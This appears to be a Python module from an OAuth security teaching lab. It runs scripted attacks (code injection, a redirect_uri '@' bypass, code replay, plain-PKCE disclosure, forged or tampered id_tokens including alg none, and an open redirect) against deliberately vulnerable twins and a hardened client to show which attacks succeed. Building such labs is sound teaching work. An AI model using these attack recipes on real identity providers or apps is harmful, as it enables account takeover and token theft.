"""DELIBERATELY VULNERABLE demos: the OAuth attacks, run for real. Development only.

Each attack is run over HTTP twice: against the naive twins (vulnerable/naive_oauth.py and
provider/naive_provider.py) and against the real client and provider. The scripted browser
(vulnerable/oauth_browser.py) plays the victim and the attacker; each runner returns what each
side did and got, for the bench page (vulnerable/oauth_bench.py) to show.
"""

import base64
import json
import secrets
from urllib.parse import urlencode, urlsplit

import requests
from flask import current_app
from joserfc.errors import JoseError

from blueprints.oauth import providers
from blueprints.oauth.client import remote
from blueprints.oauth.id_token import check_id_token

from .naive_oauth import read_id_token
from .oauth_browser import (
    CLIENT_HOOKS,
    Browser,
    app_url,
    genuine_id_token,
    location,
    provider_url,
    query,
    real_code,
    redeem,
    s256,
    stolen_naive_callback,
    stolen_real_callback,
)


def outcome(fell, *lines):
    return {"fell": fell, "lines": list(lines)}


# Each runner returns {"naive": outcome, "real": outcome}.


def run_code_injection():
    attacker = Browser()
    code = query(stolen_naive_callback())["code"]
    attacker.get(app_url(f"/vulnerable/oauth/callback?code={code}"))
    who = attacker.naive_client_believes()
    naive = outcome(
        who == "alice",
        f"Stolen code from alice's redirect: {code[:8]}…",
        "The attacker opens the naive callback with it, in the attacker's own browser.",
        f"The naive client now believes the attacker's browser is: {who}.",
        f"(The real app, asked at /oauth/protected, names: {attacker.signed_in_as()}: the twin signs nobody in there.)",
    )
    stolen = query(stolen_real_callback())
    attacker = Browser()
    own_state = query(location(attacker.get(app_url("/oauth/login"))))["state"]
    injected = attacker.get(
        app_url("/oauth/callback?" + urlencode({"code": stolen["code"], "state": own_state, "iss": stolen["iss"]}))
    )
    real = outcome(
        injected.status_code == 302,
        f"Stolen code from alice's redirect: {stolen['code'][:8]}…",
        "The attacker starts a sign-in (to get a valid state of their own), then injects alice's code.",
        f"The app answers {injected.status_code}: the provider refused the code, because the attacker's "
        "PKCE verifier does not match alice's challenge.",
        f"The attacker's browser is signed in as: {attacker.signed_in_as()}.",
    )
    return {"naive": naive, "real": real}


def attacker_redirect():
    """http://localhost:8000@attacker.localhost:8003/...: starts with the app's origin, goes elsewhere."""
    # The app's origin, then the attacker's host and the path its site is served under (a
    # classroom sandbox's /s/<key>, or nothing).
    app, attacker = urlsplit(current_app.config["APP_URL"]), urlsplit(current_app.config["ATTACKER_URL"])
    return f"{app.scheme}://{app.netloc}@{attacker.netloc}{attacker.path}/attack/oauth-stolen-code"


def run_redirect_uri():
    client_id, _ = providers.builtin_client(current_app)
    evil = attacker_redirect()
    naive_url = provider_url("/naive/authorize?") + urlencode(
        {"response_type": "code", "client_id": client_id, "redirect_uri": evil, "scope": "openid"}
    )
    answer = Browser().sign_in_and_approve(naive_url, "alice")
    host = urlsplit(location(answer)).hostname
    naive = outcome(
        host == urlsplit(current_app.config["ATTACKER_URL"]).hostname,
        f"redirect_uri={evil}",
        f"The naive provider answers {answer.status_code} → {location(answer)[:90]}…",
        f"The browser would take alice's code to host {host}: the attacker's.",
    )
    verifier = secrets.token_urlsafe(48)
    real_url = provider_url("/authorize?") + urlencode(
        {
            "response_type": "code",
            "client_id": client_id,
            "redirect_uri": evil,
            "scope": "openid",
            "state": "s",
            "nonce": secrets.token_urlsafe(12),
            "code_challenge": s256(verifier),
            "code_challenge_method": "S256",
        }
    )
    answer = Browser().get(real_url)
    real = outcome(
        answer.status_code == 302,
        f"The same redirect_uri at the real provider: {answer.status_code}, "
        + ("a redirect!" if answer.status_code == 302 else "an error page on the provider, no redirect, no code."),
    )
    return {"naive": naive, "real": real}


def run_code_replay():
    code = query(stolen_naive_callback())["code"]
    callback = app_url("/vulnerable/oauth/callback")
    first, second = (redeem(provider_url("/naive/token"), code, callback) for _ in range(2))
    naive = outcome(
        first.ok and second.ok,
        f"First exchange: {first.status_code}. Second exchange of the same code: {second.status_code}.",
        "Two sets of tokens for one authorization: a leaked, already used code is still worth stealing.",
    )
    answer, verifier = real_code()
    redirect_uri = providers.redirect_uri(current_app)
    first = redeem(provider_url("/token"), answer["code"], redirect_uri, verifier)
    second = redeem(provider_url("/token"), answer["code"], redirect_uri, verifier)
    access = first.json().get("access_token", "") if first.ok else ""
    after = requests.get(
        provider_url("/userinfo"), headers={"Authorization": f"Bearer {access}"}, timeout=10, hooks=CLIENT_HOOKS
    )
    real = outcome(
        second.ok,
        f"First exchange: {first.status_code}. Second exchange: {second.status_code} {second.json().get('error')}.",
        f"And the tokens of the first exchange are revoked: the user API now answers {after.status_code}.",
    )
    return {"naive": naive, "real": real}


def run_plain_pkce():
    client_id, _ = providers.builtin_client(current_app)
    verifier = secrets.token_urlsafe(48)
    callback = app_url("/vulnerable/oauth/callback")
    url = provider_url("/naive/authorize?") + urlencode(
        {
            "response_type": "code",
            "client_id": client_id,
            "redirect_uri": callback,
            "scope": "openid",
            "code_challenge": verifier,
        }
    )
    code = query(location(Browser().sign_in_and_approve(url, "alice")))["code"]
    seen = query(url)["code_challenge"]  # what anyone who saw the authorization URL knows
    redeemed = redeem(provider_url("/naive/token"), code, callback, verifier=seen)
    naive = outcome(
        redeemed.ok,
        "No code_challenge_method: the naive provider assumes plain, so the challenge is the verifier.",
        f"The attacker copies code_challenge from the URL and sends it as code_verifier: {redeemed.status_code}.",
    )
    answer, _ = real_code(code_challenge=verifier, code_challenge_method="plain")
    real = outcome(
        "code" in answer,
        f"The real provider answers the plain request with error={answer.get('error')}: "
        "S256 only, so nothing in the URL reveals the verifier.",
    )
    return {"naive": naive, "real": real}


def unb64_json(segment):
    return json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))


def b64_json(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def forged_tokens():
    """id_tokens that claim to be alice's, none of which this app should accept."""
    # The naive provider signs with a key of its own (LAB-3), which the real provider never
    # publishes: the real client cannot even find the key such a token names.
    foreign = requests.get(
        provider_url("/naive/id-token-for-another-app?username=alice"), timeout=10, hooks=CLIENT_HOOKS
    ).json()["id_token"]
    header, payload, signature = foreign.split(".")
    unsigned = f"{b64_json({'alg': 'none'})}.{payload}."
    tampered = f"{header}.{b64_json({**unb64_json(payload), 'aud': ['authlab-app']})}.{signature}"
    forged = [
        ("signed by the naive twin for another app (its own key, aud, nonce)", foreign),
        ("alg none, no signature", unsigned),
        ("aud edited to this app, signature kept", tampered),
    ]
    genuine = genuine_id_token()
    if genuine:
        # The real provider's own signature over alice, for this very app: only the nonce is wrong.
        real_header, real_payload, real_signature = genuine.split(".")
        edited = b64_json({**unb64_json(real_payload), "preferred_username": "bob", "sub": "2"})
        forged += [
            ("the real provider's, for this app, from another sign-in (nonce)", genuine),
            ("the real provider's, edited to say bob, signature kept", f"{real_header}.{edited}.{real_signature}"),
        ]
    return forged


# What an id_token check raised, in words. joserfc's errors carry a code and a description,
# and the description may be empty ("bad_signature: "): the code alone, said plainly, is the reason.
ERROR_WORDS = {
    "bad_signature": "the signature does not verify with the key the header names",
    "invalid_key_id": "no key with this kid in the provider's JWKS",
    "missing_key": "no key in the provider's JWKS verifies it",
    "unsupported_algorithm": "its algorithm is not one this client accepts",
}


def refusal_words(exc):
    """Why the real client refused an id_token, never an empty detail."""
    if isinstance(exc, JoseError):
        code = str(getattr(exc, "error", "") or "")
        description = str(getattr(exc, "description", "") or "").strip()
        words = description or ERROR_WORDS.get(code) or code.replace("_", " ") or "refused"
        return f"{type(exc).__name__}: {words}"
    return f"{type(exc).__name__}: {str(exc).strip() or 'refused'}"


def run_id_token():
    naive_lines, real_lines, naive_fell, real_fell = [], [], False, False
    client = remote("builtin")
    provider = providers.builtin(current_app)
    for label, token in forged_tokens():
        claims = read_id_token(token)
        naive_fell = True
        name = claims.get("preferred_username") or claims.get("sub")
        naive_lines.append(f"{label}: the naive client believes it: signed in as {name}.")
        try:
            check_id_token(client, provider, {"id_token": token, "access_token": "x"}, nonce="this-attempts-nonce")
            real_fell = True
            real_lines.append(f"{label}: accepted!")
        except (JoseError, ValueError) as exc:
            real_lines.append(f"{label}: refused ({refusal_words(exc)}).")
    return {"naive": outcome(naive_fell, *naive_lines), "real": outcome(real_fell, *real_lines)}


def run_open_redirect():
    evil = current_app.config["ATTACKER_URL"] + "/attack/oauth-phishing"
    victim = Browser()
    naive_final = location(victim.get(stolen_naive_callback(victim=victim, next=evil)))
    naive = outcome(
        naive_final.startswith(evil),
        f"Sign-in link: {app_url('/vulnerable/oauth/login')}?next={evil}",
        f"After a genuine sign-in, the naive client redirects to: {naive_final}",
    )
    victim = Browser()
    real_final = location(victim.get(stolen_real_callback(victim=victim, next=evil)))
    real = outcome(
        real_final.startswith(evil),
        f"Sign-in link: {app_url('/oauth/login')}?next={evil}",
        f"After sign-in, the real client redirects to: {real_final} (next was not a path on this site).",
    )
    return {"naive": naive, "real": real}


RUNNERS = {
    "code-injection": run_code_injection,
    "redirect-uri": run_redirect_uri,
    "code-replay": run_code_replay,
    "plain-pkce": run_plain_pkce,
    "id-token": run_id_token,
    "open-redirect": run_open_redirect,
}
